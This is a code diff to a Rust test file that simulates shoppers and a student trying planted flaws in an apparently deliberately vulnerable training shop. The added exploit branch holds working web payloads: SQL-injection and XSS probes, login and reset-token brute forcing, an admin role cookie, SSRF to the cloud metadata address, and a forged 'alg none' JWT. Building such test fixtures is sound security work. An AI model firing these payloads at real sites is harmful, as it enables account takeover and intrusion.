@@ -1,5 +1,5 @@
 // SPDX-License-Identifier: AGPL-3.0-or-later
-//! What customers do while it is looked. The same with an anomaly and without, but that nobody goes on with a flaw that is not there.
+//! What customers do while it is looked, and somebody who tries the flaws: the same with an anomaly and without.
 
 use std::ops::Range;
 use std::sync::Arc;
@@ -9,7 +9,9 @@ use perfshop_server::work::fulfilment::round_at;
 use serde_json::{Value, json};
 
 use crate::evidence::oversold;
-use crate::util::app::{Client, TestApp};
+use crate::security::accounts::{asked, learner, log_in, md5};
+use crate::security::portal::{bearing, forged};
+use crate::util::app::{Client, TestApp, json_request};
 use crate::util::shopper::{card, number, set_product, signed_in};
 
 /// A product whose price has cents, and as many pieces as anybody wants.
@@ -51,9 +53,7 @@ impl Traffic<'_> {
                 let order = visit.buy(code).await;
                 visit.try_to("GET", &format!("/api/orders/{order}/invoice"), None).await;
                 visit.try_to("GET", "/api/products/search?q=lampe", None).await;
-                if self.on {
-                    self.exploit(anomaly, &visit).await;
-                }
+                self.exploit(anomaly, &visit).await;
             }
         }
     }
@@ -84,26 +84,63 @@ impl Traffic<'_> {
         visit.try_to("GET", "/api/auth/me", None).await;
     }
 
-    /// The calls of somebody who has found a flaw.
+    /// The calls of a student who tries a flaw. They are the same while it is not there, and lead nowhere then.
     async fn exploit(&self, anomaly: Anomaly, visit: &Visit<'_>) {
+        let ada = learner(self.app, &format!("Ada {}", self.customer)).await;
+        let call = async |method: &str, path: &str, body: Option<Value>| {
+            ada.client.send(json_request(method, path, body)).await
+        };
         match anomaly {
-            Anomaly::S1 => visit.try_to("GET", "/api/products/search?q=%27", None).await,
-            Anomaly::S5 => {
-                let account = json!({"email": "nobody@example.org", "password": "a guess"});
-                visit.try_to("POST", "/api/auth/login", Some(account)).await;
+            Anomaly::S1 => drop(call("GET", "/api/products/search?q=%27", None).await),
+            Anomaly::S2 => {
+                let reviews = format!("/api/products/{}/reviews", self.customer);
+                let review = json!({"rating": 1, "text": "<img src=x onerror=alert(1)>"});
+                call("POST", &reviews, Some(review)).await;
+                call("GET", &reviews, None).await;
+                call("GET", "/api/products/search?q=%3Csvg%3E", None).await;
             }
-            Anomaly::S7 => visit.try_to("GET", "/api/debug/session", None).await,
+            Anomaly::S3 => drop(call("GET", "/api/auth/me", None).await),
+            // Somebody else's.
+            Anomaly::S4 => drop(call("GET", "/api/orders/7", None).await),
+            // More guesses than a healthy shop takes.
+            Anomaly::S5 => {
+                for guess in 0..20 {
+                    let email = format!("user{}@perfshop.com", 200 + self.customer);
+                    let account = json!({"email": email, "password": format!("guess {guess}")});
+                    call("POST", "/api/auth/login", Some(account)).await;
+                }
+            }
+            Anomaly::S7 => {
+                let told = log_in(&ada.client, &ada.email, &ada.password).await.headers.get("x-debug-token").cloned();
+                let mut request = json_request("GET", "/api/debug/session", None);
+                request.headers_mut().insert("x-debug-token", told.unwrap_or_else(|| "0".repeat(64).parse().unwrap()));
+                ada.client.send(request).await;
+            }
             Anomaly::S8 => {
-                let guess = json!({"token": "0".repeat(32), "newPassword": "a new password"});
-                visit.try_to("POST", "/api/auth/password/reset", Some(guess)).await;
+                asked(self.app, &ada.client, "user450@perfshop.com").await;
+                for number in 1..30 {
+                    let guess = json!({"token": md5(number), "password": "taken over 1"});
+                    call("POST", "/api/auth/password/reset", Some(guess)).await;
+                }
             }
             Anomaly::S9 => visit.try_to("PUT", "/api/auth/me", Some(json!({"loyaltyPoints": 100}))).await,
-            Anomaly::S10 => visit.try_to("GET", "/api/admin/portal/users", None).await,
-            Anomaly::S11 => {
-                let address = json!({"url": "http://127.0.0.1/"});
-                visit.try_to("POST", "/api/admin/portal/preview", Some(address)).await;
+            Anomaly::S10 => {
+                ada.client.keep("portal_role", "admin");
+                call("GET", "/api/admin/portal/users", None).await;
             }
-            Anomaly::S12 => visit.try_to("GET", "/api/admin/portal/orders", None).await,
+            Anomaly::S11 => {
+                let account = json!({"email": ada.email, "password": ada.password});
+                let entered = call("POST", "/api/admin/portal/login", Some(account)).await;
+                let token = entered.json()["token"].as_str().unwrap_or_default().to_owned();
+                let address = json!({"url": "http://169.254.169.254/latest/meta-data/"});
+                let preview = json_request("POST", "/api/admin/portal/preview", Some(address));
+                ada.client.send(bearing(preview, &token)).await;
+            }
+            Anomaly::S12 => {
+                let claims = json!({"sub": "1", "role": "admin", "exp": 4_000_000_000_i64});
+                let token = forged(r#"{"alg":"none"}"#, &claims, None);
+                ada.client.send(bearing(json_request("GET", "/api/admin/portal/orders", None), &token)).await;
+            }
             _ => {}
         }
     }
@@ -112,7 +149,7 @@ impl Traffic<'_> {
 impl Visit<'_> {
     /// Whatever comes of it: what is on may break any of these.
     async fn try_to(&self, method: &str, path: &str, body: Option<Value>) {
-        self.client.send(crate::util::app::json_request(method, path, body)).await;
+        self.client.send(json_request(method, path, body)).await;
     }
 
     /// A purchase with this code, the fast way. Gives the order's number, 0 when there is none.
